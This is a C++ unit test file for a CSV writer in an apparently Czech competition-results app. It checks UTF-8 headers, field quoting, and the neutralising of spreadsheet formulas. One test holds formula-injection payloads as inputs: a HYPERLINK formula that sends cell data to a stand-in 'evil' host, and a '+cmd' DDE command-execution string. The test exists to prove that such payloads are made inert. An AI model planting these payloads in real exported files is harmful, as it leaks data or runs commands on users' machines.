#include "vysledky/CsvWriter.h"
#include "tests/vysledky/LogBytes.h"
#include "tests/vysledky/ReadLog.h"

#include <gtest/gtest.h>

TEST(CsvWriter, WritesTheHeadersInUtf8WithCrLf) {
    const ReadLog read("");
    EXPECT_EQ(read.attempts,
              QByteArray("\xEF\xBB\xBFpokus;dru\xC5\xBEstvo;dr\xC3\xA1ha 1;dr\xC3\xA1ha 2;"
                         "v\xC3\xBDsledek;stav\r\n"));
    EXPECT_EQ(read.ranking,
              QByteArray("\xEF\xBB\xBFm\xC3\xADsto;dru\xC5\xBEstvo;v\xC3\xBDsledek\r\n"));
}

TEST(CsvWriter, QuotesFieldsHoldingSemicolonsOrQuotes) {
    const QByteArray log = logOf({"SDH \"Orel\"; Lhota", "@1 00:00:17:000", "\"", "@1 00:00:17:000",
                                  "a;b", "@1 00:00:17:000", "a, b 'c'", "@1 0;0"});
    const ReadLog read(log);
    EXPECT_EQ(read.attempts, attemptsHeader +
                                 "1;\"SDH \"\"Orel\"\"; Lhota\";00:00:17:000;;;neúplný\r\n"
                                 "2;\"\"\"\";00:00:17:000;;;neúplný\r\n"
                                 "3;\"a;b\";00:00:17:000;;;neúplný\r\n"
                                 "4;a, b 'c';\"0;0\";;;neúplný\r\n");
}

// What a spreadsheet would run as a formula gets a "'" in front; numbers, times and other text
// stay as they are.
TEST(CsvWriter, MakesFormulasInertAndLeavesTheRest) {
    const std::pair<const char16_t*, const char16_t*> cells[] = {
        {u"=HYPERLINK(\"http://evil/?x=\"&A1,\"klik\")",
         u"\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"klik\"\")\""},
        {u"+cmd|' /C calc'!A0", u"'+cmd|' /C calc'!A0"},
        {u"-2+3", u"'-2+3"},
        {u"@SUM(1+1)", u"'@SUM(1+1)"},
        {u"\tx", u"'\tx"},
        {u"\rx", u"\"'\rx\""},
        {u"a\nb", u"\"a\nb\""},
        {u"-2", u"-2"},
        {u"+1,5", u"+1,5"},
        {u"12", u"12"},
        {u"00:00:17:250", u"00:00:17:250"},
        {u"A = 1", u"A = 1"},
        {u"", u""}};
    for (const auto& [text, field] : cells) {
        EXPECT_EQ(CsvWriter::field(QString::fromUtf16(text)), QString::fromUtf16(field));
    }
}
